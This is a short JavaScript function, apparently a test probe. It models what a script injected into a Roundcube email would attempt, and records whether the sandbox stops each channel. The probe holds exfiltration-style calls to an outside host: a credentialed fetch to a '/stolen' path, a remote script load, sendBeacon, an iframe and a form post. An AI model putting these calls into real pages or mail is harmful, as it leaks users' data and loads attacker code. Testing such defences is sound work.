// What a script in a mail would try, had it got past Roundcube's filter: load more code, and get what it read out.
async ([elsewhere, admin]) => {
  const fetched = (url) =>
    fetch(url, { mode: "no-cors", credentials: "include" }).then(() => "sent", () => "stopped");
  const loaded = (name, attributes) =>
    new Promise((done) => {
      const node = Object.assign(document.createElement(name), attributes);
      node.onload = () => done("loaded");
      node.onerror = () => done("stopped");
      document.body.append(node);
    });
  const got = {
    fetchElsewhere: await fetched(`${elsewhere}/stolen`),
    fetchAdmin: await fetched(admin),
    script: await loaded("script", { src: `${elsewhere}/s.js` }),
    style: await loaded("link", { rel: "stylesheet", href: `${elsewhere}/s.css` }),
  };
  navigator.sendBeacon(`${elsewhere}/beacon`);
  document.body.append(Object.assign(document.createElement("iframe"), { src: admin }));
  const form = Object.assign(document.createElement("form"), { method: "post", action: `${elsewhere}/form` });
  document.body.append(form);
  form.submit();
  return got;
};
